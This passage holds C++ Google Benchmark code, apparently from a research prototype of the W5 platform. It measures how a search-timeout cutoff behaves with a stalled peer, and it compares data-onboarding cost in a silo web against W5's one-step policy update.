    state.SkipWithError("full-wait run unexpectedly degraded");
}

// Budgeted: the 2 ms cutoff abandons the stalled peer and serves the
// fast peer + local leg, flagged partial. The degradation compounds:
// the first few timeouts open the stalled peer's breaker, after which
// searches skip it outright — so steady-state p99 sits well under even
// the 2 ms budget.
void BM_CutoffPartial(benchmark::State& state) {
  run_cutoff(state, 2'000, /*expect_partial=*/true);
}
BENCHMARK(BM_CutoffPartial)->Unit(benchmark::kMillisecond);

// Unbudgeted (500 ms): every search waits out the full 20 ms stall —
// the "one slow peer holds the page hostage" baseline the cutoff beats.
void BM_CutoffFullWait(benchmark::State& state) {
  run_cutoff(state, 500'000, /*expect_partial=*/false);
}
BENCHMARK(BM_CutoffFullWait)->Unit(benchmark::kMillisecond);

}  // namespace
