// E1 — Figure 1 vs Figure 2: what does it cost for a NEW application to
// serve a user's existing data?
//
// Silo web (Fig. 1): the user's N records live inside the old site; the
// new site must re-acquire them — N uploads of the full payload, per new
// application.
// W5 (Fig. 2): data stays put; adopting a new app is one policy update
// (checkbox / "accepting an invitation", §1), then the app computes over
// the data in place.
//
// Shape expectation: silo onboarding cost grows linearly with the user's
// data (bytes moved ∝ N × size); W5 onboarding is O(1) and tiny. The
// bytes_moved counters make the asymmetry explicit.
#include <benchmark/benchmark.h>

#include <map>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

namespace {

using w5::net::Method;

constexpr std::size_t kPhotoBytes = 2048;

// Fig. 1: onboarding = copying every record into the new silo.
void BM_SiloNewAppOnboarding(benchmark::State& state) {
  const auto n_records = static_cast<std::size_t>(state.range(0));
  const std::string payload(kPhotoBytes, 'x');
  std::int64_t bytes_moved = 0;
  for (auto _ : state) {
    std::map<std::string, std::string> new_site_db;  // the new provider
    for (std::size_t i = 0; i < n_records; ++i) {
      // Download from old silo + upload to new silo: payload crosses the
      // network twice; we charge it once (the upload) to be generous.
      new_site_db["p" + std::to_string(i)] = payload;
      bytes_moved += static_cast<std::int64_t>(payload.size());
    }
    benchmark::DoNotOptimize(new_site_db.size());
  }
  state.counters["bytes_moved_per_onboard"] = static_cast<double>(
      bytes_moved / static_cast<std::int64_t>(state.iterations()));
  state.SetLabel("records=" + std::to_string(n_records));
}
BENCHMARK(BM_SiloNewAppOnboarding)->Arg(10)->Arg(100)->Arg(1000);

// Fig. 2: onboarding = one policy POST; data never moves.
void BM_W5NewAppOnboarding(benchmark::State& state) {
  const auto n_records = static_cast<std::size_t>(state.range(0));
  w5::util::WallClock clock;
  w5::platform::Provider provider(w5::platform::ProviderConfig{}, clock);
  w5::apps::register_standard_apps(provider);
  (void)provider.signup("bob", "password");
  const std::string session = provider.login("bob", "password").value();
  const std::string payload(kPhotoBytes, 'x');
  for (std::size_t i = 0; i < n_records; ++i) {
    w5::util::Json data;
    data["title"] = "p" + std::to_string(i);
    data["caption"] = payload;
    data["rating"] = 1;
    (void)provider.http(Method::kPost, "/data/photos/p" + std::to_string(i),
                        data.dump(), session);
  }
  // The "new application" appears; adopting it is one policy update.
  const std::string grant =
      R"({"write_grants":["photoco/photos"],"declassifier":"std/owner-only"})";
  std::int64_t bytes_moved = 0;
  for (auto _ : state) {
    auto response =
        provider.http(Method::kPost, "/policy", grant, session);
    if (response.status != 200) state.SkipWithError("policy update failed");
    bytes_moved += static_cast<std::int64_t>(grant.size());
    benchmark::DoNotOptimize(response.status);
  }
  state.counters["bytes_moved_per_onboard"] = static_cast<double>(
      bytes_moved / static_cast<std::int64_t>(state.iterations()));
  state.SetLabel("records=" + std::to_string(n_records) +
                 " (cost independent of it)");
}
BENCHMARK(BM_W5NewAppOnboarding)->Arg(10)->Arg(100)->Arg(1000);

// After onboarding, first useful render on the user's existing data.
void BM_W5FirstRenderAfterAdoption(benchmark::State& state) {
  w5::util::WallClock clock;
  w5::platform::Provider provider(w5::platform::ProviderConfig{}, clock);
  w5::apps::register_standard_apps(provider);
  (void)provider.signup("bob", "password");
  const std::string session = provider.login("bob", "password").value();
  for (int i = 0; i < 50; ++i) {
    w5::util::Json data;
    data["title"] = "p" + std::to_string(i);
    data["caption"] = "c";
    data["rating"] = i % 5;
    (void)provider.http(Method::kPost, "/data/photos/p" + std::to_string(i),
                        data.dump(), session);
  }
  for (auto _ : state) {
    auto response = provider.http(Method::kGet, "/dev/photoco/photos/list",
                                  "", session);
    if (response.status != 200) state.SkipWithError("render failed");
    benchmark::DoNotOptimize(response.body.size());
  }
}
BENCHMARK(BM_W5FirstRenderAfterAdoption);

}  // namespace
